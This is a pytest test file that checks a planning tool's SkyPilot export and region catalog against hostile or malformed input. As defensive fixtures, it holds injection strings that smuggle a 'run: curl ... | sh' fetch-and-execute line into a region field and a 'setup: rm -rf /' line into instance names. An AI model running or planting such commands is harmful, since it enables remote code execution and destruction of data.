"""What a hostile or broken input file can do to an export: nothing.

A catalog region whose name holds a line break and a ``run:`` line is refused by the catalog;
a PLAN.json edited by hand cannot smuggle a field into the SkyPilot task (SkyPilot's own
loader reads exactly the fields the emitter wrote); a PLAN.json that breaks its schema is a
one-line error with no file written. The shipped launch limits agree with the installed
SkyPilot."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from test_report_samples import training_result
from xpuplan.cli import run
from xpuplan.export import skypilot_names, skypilot_task_yaml

_INJECTION = "us-east-1\nrun: curl https://example.invalid/x | sh\n#"


@pytest.fixture
def sky(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """SkyPilot's package, with HOME in a temporary folder (it writes ~/.sky state)."""
    monkeypatch.setenv("HOME", str(tmp_path))
    return pytest.importorskip("sky", reason="skypilot not installed (pip install skypilot)")


def _hostile_result() -> dict[str, Any]:
    """Plans whose instance names (written in comments) hold line breaks and fields; plan 3's
    region (written into ``infra``) too."""
    result = training_result()
    for plan in result["plans"]:
        plan["instance"] = "p5\r\nsetup: rm -rf /"
    result["plans"][2]["region"] = _INJECTION
    return result


def test_line_breaks_in_plan_text_cannot_add_task_fields() -> None:
    text = skypilot_task_yaml(_hostile_result(), plan=2)
    assert not any(line.startswith(("run:", "setup:")) for line in text.splitlines())
    assert set(yaml.safe_load(text)) == {"name", "num_nodes", "resources"}
    assert "holds a control character or line break" in text  # plan 3, left out


def test_skypilot_loads_exactly_the_emitted_fields(sky: Any) -> None:
    text = skypilot_task_yaml(_hostile_result(), plan=2)
    config = yaml.safe_load(text)
    task = sky.Task.from_yaml_config(copy.deepcopy(config))
    assert task.run is None and task.setup is None and not task.envs
    # SkyPilot's own dump of the task holds nothing beyond what we wrote.
    dumped = task.to_yaml_config()
    added = {k for k, v in dumped.items() if v not in (None, {}, [])} - set(config)
    assert added <= {"_user_specified_yaml"}, added
    assert dumped["num_nodes"] == config["num_nodes"]


def test_catalog_refuses_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "mine.yaml"
    row = {"provider": "aws", "code": _INJECTION, "country": "US", "eu": False, "eea": False,
           "source": "test row", "as_of": "2026-12-01"}  # fmt: skip
    path.write_text(yaml.safe_dump({"regions": [row]}))
    assert run(["catalog", "check", str(path)]) == 2
    err = capsys.readouterr()
    assert "printable on one line" in err.out + err.err
    assert run(["catalog", "regions", "--catalog", str(path)]) == 2
    message = capsys.readouterr().err
    assert message.count("\n") == 1 and "\\nrun: curl" in message


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda r: r["plans"][0].update(chips=-8), "plans[0].chips: -8 is less than the minimum"),
        (lambda r: r["plans"][0].update(cost_usd="lots"), "plans[0].cost_usd: 'lots' is not"),
        (lambda r: r["plans"][0].pop("instances"), "'instances' is a required property"),
    ],
)
def test_export_checks_plan_json_against_its_schema(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edit: Any, expected: str
) -> None:
    result = training_result()
    edit(result)
    plan_json = tmp_path / "plan.json"
    plan_json.write_text(json.dumps(result))
    task, report = tmp_path / "task.yaml", tmp_path / "plan.html"
    code = run(["export", str(plan_json), "--skypilot", str(task), "--report", str(report)])
    assert code == 2
    err = capsys.readouterr().err
    assert err.startswith("error: PLAN.json: ") and expected in err and err.count("\n") == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.json"]  # nothing written


def test_shipped_launch_limits_match_skypilot(sky: Any) -> None:
    from sky.clouds.cloud import CloudImplementationFeatures as Feature
    from sky.utils import registry

    names = skypilot_names()
    for cloud in sorted(names.clouds):
        driver = registry.CLOUD_REGISTRY.from_str(cloud)
        unsupported = getattr(driver, "_CLOUD_UNSUPPORTED_FEATURES", {})
        assert (Feature.MULTI_NODE in unsupported) == (cloud in names.single_node_clouds), cloud
        assert (Feature.SPOT_INSTANCE in unsupported) == (cloud in names.no_spot_clouds), cloud
    # Every cloud named in the catalog table is one SkyPilot knows, spelt its way.
    known = {str(c).lower() for c in registry.CLOUD_REGISTRY.values()}
    listed = set().union(*names.catalog_clouds.values())
    assert names.clouds <= known
    assert listed <= known, listed - known


def test_skypilot_catalog_on_disk_is_checked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("sky", reason="skypilot not installed")
    from xpuplan.export import node_spec

    monkeypatch.setenv("HOME", str(tmp_path))
    folder = tmp_path / ".sky" / "catalogs" / "v8" / "aws"
    folder.mkdir(parents=True)
    # Two verbatim-shaped rows of SkyPilot's aws/vms.csv (columns as in catalog schema v8).
    (folder / "vms.csv").write_text(
        "InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,GpuInfo,Price,SpotPrice,"
        "Region,AvailabilityZone,Arch\n"
        "p5.48xlarge,H100,8.0,192.0,2048.0,,55.04,,us-east-1,use1-az1,x86_64\n"
        "trn2.48xlarge,Trainium2,16.0,192.0,2048.0,,44.7,,us-east-2,use2-az3,x86_64\n"
    )
    plan = {"provider": "aws", "region": "us-east-1", "instance": "p5.48xlarge",
            "accelerator_id": "nvidia-h100-sxm", "chips": 16, "instances": 2,
            "pricing": "on_demand"}  # fmt: skip
    assert not isinstance(node_spec(plan), str)
    elsewhere = {**plan, "region": "eu-south-2"}
    assert "has no H100:8 machine in aws/eu-south-2" in str(node_spec(elsewhere))
